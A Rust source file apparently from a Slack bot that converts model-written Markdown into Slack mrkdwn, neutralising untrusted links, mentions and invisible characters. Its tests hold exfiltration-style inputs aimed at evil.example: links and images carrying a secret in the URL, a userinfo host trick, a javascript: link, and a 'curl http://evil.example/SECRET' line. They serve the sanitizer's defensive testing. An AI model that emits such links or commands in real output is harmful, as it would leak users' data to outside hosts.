//! Converts Markdown, as models write it, to Slack's mrkdwn. Code stays as it is. Slack commands
//! (`<!channel>`, `<@U…>`) become plain text. See docs.slack.dev/messaging/formatting-message-text.

pub use crate::slack::respond::addresses::escape;

use alfred_core::invisible;
use pulldown_cmark::{CodeBlockKind, Event, Options, Parser, Tag, TagEnd};

use crate::slack::respond::addresses;

pub fn from_markdown(markdown: &str) -> String {
    written(markdown, &|_| true)
}

/// Like [`from_markdown`], but keeps only trusted links; others become text with their real host.
/// Otherwise text by other people could send data away with one click, or hide where a link leads.
/// Addresses are searched in the converted text, as it will be shown.
pub fn with_links(markdown: &str, trusted: &dyn Fn(&str) -> bool) -> String {
    addresses::cut(&written(markdown, trusted), trusted)
}

fn written(markdown: &str, trusted: &dyn Fn(&str) -> bool) -> String {
    let options =
        Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES | Options::ENABLE_TASKLISTS;
    let mut writer = Writer {
        out: String::new(),
        lists: Vec::new(),
        quotes: 0,
        link: None,
        table: None,
        in_code: false,
        trusted,
    };
    let markdown = invisible::removed(markdown);
    for event in Parser::new_ext(&markdown, options) {
        writer.event(event);
    }
    // HTML entities in the Markdown may have encoded invisible characters.
    invisible::removed(writer.out.trim_end())
}

struct Writer<'a> {
    out: String,
    /// Per nested list: the next number, or `None` for bullets.
    lists: Vec<Option<u64>>,
    quotes: usize,
    link: Option<Link>,
    table: Option<Table>,
    in_code: bool,
    trusted: &'a dyn Fn(&str) -> bool,
}

struct Link {
    url: String,
    text: String,
}

#[derive(Default)]
struct Table {
    rows: Vec<Vec<String>>,
}

impl Writer<'_> {
    fn event(&mut self, event: Event<'_>) {
        match event {
            Event::Start(tag) => self.start(tag),
            Event::End(tag) => self.end(tag),
            Event::Text(text) | Event::Html(text) | Event::InlineHtml(text) => {
                self.text(&escape(&text));
            }
            Event::Code(code) => {
                self.text(&format!("`{}`", escape(&code)));
            }
            Event::SoftBreak | Event::HardBreak => self.newline(),
            Event::Rule => self.block("———"),
            Event::TaskListMarker(done) => self.text(if done { "☑ " } else { "☐ " }),
            Event::FootnoteReference(name) => self.text(&format!("[{}]", escape(&name))),
            Event::InlineMath(math) | Event::DisplayMath(math) => self.text(&escape(&math)),
        }
    }

    fn start(&mut self, tag: Tag<'_>) {
        match tag {
            Tag::Paragraph if self.lists.is_empty() => self.gap(),
            Tag::Heading { .. } => {
                self.gap();
                self.out.push('*');
            }
            Tag::BlockQuote(_) => {
                self.gap();
                self.quotes += 1;
                self.out.push_str("> ");
            }
            Tag::CodeBlock(kind) => {
                self.gap();
                self.out.push_str("```\n");
                self.in_code = true;
                // Slack has no language tags; the tag would appear as the first line of code.
                let (CodeBlockKind::Indented | CodeBlockKind::Fenced(_)) = kind;
            }
            Tag::List(first) => {
                if self.lists.is_empty() {
                    self.gap();
                } else {
                    self.newline();
                }
                self.lists.push(first);
            }
            Tag::Item => self.item(),
            Tag::Emphasis => self.text("_"),
            Tag::Strong => self.text("*"),
            Tag::Strikethrough => self.text("~"),
            Tag::Link { dest_url, .. } | Tag::Image { dest_url, .. } => {
                self.link = Some(Link {
                    url: dest_url.into_string(),
                    text: String::new(),
                });
            }
            Tag::Table(_) => {
                self.gap();
                self.table = Some(Table::default());
            }
            Tag::TableHead | Tag::TableRow => {
                if let Some(table) = &mut self.table {
                    table.rows.push(Vec::new());
                }
            }
            Tag::TableCell => {
                if let Some(row) = self.table.as_mut().and_then(|table| table.rows.last_mut()) {
                    row.push(String::new());
                }
            }
            _ => {}
        }
    }

    fn end(&mut self, tag: TagEnd) {
        match tag {
            TagEnd::Heading(_) => self.out.push('*'),
            TagEnd::BlockQuote(_) => self.quotes = self.quotes.saturating_sub(1),
            TagEnd::CodeBlock => {
                if !self.out.ends_with('\n') {
                    self.out.push('\n');
                }
                self.out.push_str("```");
                self.in_code = false;
            }
            TagEnd::List(_) => {
                self.lists.pop();
            }
            TagEnd::Emphasis => self.text("_"),
            TagEnd::Strong => self.text("*"),
            TagEnd::Strikethrough => self.text("~"),
            TagEnd::Link | TagEnd::Image => self.close_link(),
            TagEnd::Table => self.close_table(),
            _ => {}
        }
    }

    fn text(&mut self, text: &str) {
        if let Some(link) = &mut self.link {
            link.text.push_str(text);
        } else if let Some(cell) = self
            .table
            .as_mut()
            .and_then(|table| table.rows.last_mut()?.last_mut())
        {
            cell.push_str(text);
        } else if self.quotes > 0 && !self.in_code {
            self.out.push_str(&text.replace('\n', "\n> "));
        } else {
            self.out.push_str(text);
        }
    }

    fn newline(&mut self) {
        if self.quotes > 0 {
            self.out.push_str("\n> ");
        } else {
            self.out.push('\n');
        }
    }

    /// Starts a new block, after an empty line.
    fn gap(&mut self) {
        if self.out.is_empty() || self.out.ends_with("> ") {
            return;
        }
        while !self.out.ends_with("\n\n") {
            self.out.push('\n');
        }
        if self.quotes > 0 {
            self.out.push_str("> ");
        }
    }

    fn block(&mut self, text: &str) {
        self.gap();
        self.out.push_str(text);
    }

    fn item(&mut self) {
        if !self.out.is_empty() && !self.out.ends_with('\n') {
            self.newline();
        }
        let depth = self.lists.len().saturating_sub(1);
        self.out.push_str(&"    ".repeat(depth));
        match self.lists.last_mut() {
            Some(Some(number)) => {
                self.out.push_str(&format!("{number}. "));
                *number += 1;
            }
            _ => self.out.push_str("• "),
        }
    }

    fn close_link(&mut self) {
        let Some(link) = self.link.take() else { return };
        if !(self.trusted)(&link.url) {
            let host = escape(&addresses::host(&link.url));
            let shown = addresses::cut(link.text.trim(), self.trusted);
            return if shown.is_empty() || shown == host {
                self.text(&host)
            } else {
                self.text(&format!("{shown} [{host}]"))
            };
        }
        let web = ["http://", "https://", "mailto:"]
            .iter()
            .any(|scheme| link.url.starts_with(scheme));
        // A bar or angle bracket in a URL would end the link early.
        let url = escape(&link.url).replace('|', "%7C");
        let text = addresses::cut(&link.text, self.trusted).replace('|', "¦");
        match (web, text.is_empty() || text == url) {
            (true, true) => self.text(&format!("<{url}>")),
            (true, false) => self.text(&format!("<{url}|{text}>")),
            (false, _) => self.text(&format!("{text} ({url})")),
        }
    }

    fn close_table(&mut self) {
        let Some(table) = self.table.take() else {
            return;
        };
        let columns = table.rows.iter().map(Vec::len).max().unwrap_or(0);
        let width = |column: usize| {
            let cells = table.rows.iter().filter_map(|row| row.get(column));
            cells.map(|cell| cell.chars().count()).max().unwrap_or(0)
        };
        let widths: Vec<usize> = (0..columns).map(width).collect();
        let lines = table.rows.iter().map(|row| {
            let cells = widths.iter().enumerate().map(|(at, width)| {
                let cell = row.get(at).map_or("", String::as_str);
                format!("{cell:<width$}")
            });
            cells.collect::<Vec<_>>().join("  ").trim_end().to_owned()
        });
        let lines = lines.collect::<Vec<_>>().join("\n");
        self.out.push_str(&format!("```\n{lines}\n```"));
    }
}

#[cfg(test)]
mod tests {
    use super::{from_markdown, with_links};

    #[test]
    fn untrusted_links_show_their_real_host_and_carry_nothing() {
        let owner = |url: &str| url == "https://ours.example/a";
        let cases = [
            (
                "[your bank](https://evil.example/?d=SECRET)",
                "your bank [evil.example]",
            ),
            (
                "![x](https://evil.example/p.png?d=SECRET)",
                "x [evil.example]",
            ),
            ("see https://evil.example/?d=SECRET.", "see evil.example."),
            ("<https://evil.example/SECRET>", "evil.example"),
            (
                "[a](https://good.example@evil.example/SECRET)",
                "a [evil.example]",
            ),
            ("`HTTPS://evil.example/SECRET`", "`evil.example`"),
            ("[call](javascript:SECRET)", "call [javascript:…]"),
            ("[here](evil/SECRET)", "here […]"),
            ("Tom <tom@nordwood.example>", "Tom tom@nordwood.example"),
            (
                "[Tom](tom@nordwood.example), [Ana](mailto:ana@example.com)",
                "Tom [tom@nordwood.example], Ana [ana@example.com]",
            ),
            (
                "[Tom](mailto:tom@nordwood.example?body=SECRET)",
                "Tom [tom@nordwood.example]",
            ),
            (
                "[ours](https://ours.example/a)",
                "<https://ours.example/a|ours>",
            ),
            (
                "```\ncurl http://evil.example/SECRET\n```",
                "```\ncurl evil.example\n```",
            ),
        ];
        for (markdown, shown) in cases {
            let out = with_links(markdown, &owner);
            assert_eq!(out, shown, "{markdown}");
            assert!(!out.contains("SECRET"));
        }
    }

    #[test]
    fn markdown_becomes_mrkdwn() {
        let cases = [
            ("**bold** and *it* and ~~no~~", "*bold* and _it_ and ~no~"),
            ("# Title\n\ntext", "*Title*\n\ntext"),
            ("[a](https://x.y/?q=1&r=2)", "<https://x.y/?q=1&amp;r=2|a>"),
            ("<https://x.y>", "<https://x.y>"),
            ("[a](javascript:alert)", "a (javascript:alert)"),
            ("- one\n- two\n  - deep", "• one\n• two\n    • deep"),
            ("1. one\n2. two", "1. one\n2. two"),
            ("`a < b` & c", "`a &lt; b` &amp; c"),
            ("```rust\nlet a = **b**;\n```", "```\nlet a = **b**;\n```"),
            ("> quoted\n> more", "> quoted\n> more"),
            ("a | b\n--|--\n1 | 22", "```\na  b\n1  22\n```"),
            ("- [x] done\n- [ ] open", "• ☑ done\n• ☐ open"),
            // Slack commands become text.
            ("<!channel> hi", "&lt;!channel&gt; hi"),
            ("hey <@U123>", "hey &lt;@U123&gt;"),
            ("<!here|x>", "&lt;!here|x&gt;"),
            ("[x](<!everyone>)", "x (!everyone)"),
        ];
        for (markdown, mrkdwn) in cases {
            assert_eq!(from_markdown(markdown), mrkdwn, "{markdown}");
        }
    }

    proptest::proptest! {
        #[test]
        fn nothing_acts_and_words_stay(words in "[a-z]{1,9}( [a-z]{1,9}){0,5}", text in "\\PC{0,80}") {
            let behind = from_markdown(&format!("{words} {text}"));
            proptest::prop_assert!(behind.starts_with(&words), "{behind}");
            for out in [behind, from_markdown(&text)] {
                proptest::prop_assert!(!out.contains("<!") && !out.contains("<@"), "{out}");
            }
        }
    }
}
